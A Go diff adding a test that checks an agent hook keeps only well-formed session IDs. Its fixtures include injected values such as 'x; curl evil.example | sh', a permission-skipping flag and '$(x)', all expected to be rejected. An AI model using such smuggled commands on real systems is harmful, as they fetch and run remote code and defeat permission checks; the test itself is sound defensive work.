@@ -174,3 +174,16 @@ func TestOutput(t *testing.T) {
 		}
 	}
 }
+
+// A person puts an agent's session behind a command: what isn't a name isn't one.
+func TestSessionName(t *testing.T) {
+	for said, want := range map[string]string{
+		"": "", "0b1e4a5c-2d3f": "0b1e4a5c-2d3f", "ses_1.2:3": "ses_1.2:3", "x; curl evil.example | sh": "", "--dangerously-skip-permissions": "", "$(x)": "", strings.Repeat("x", 201): "",
+	} {
+		input, _ := json.Marshal(map[string]string{"session_id": said})
+		h := Hook{Agent: "claude", Event: "Stop", Input: input}
+		if got := h.Claim().SessionID; got != want {
+			t.Errorf("%q is %q, want %q", said, got, want)
+		}
+	}
+}
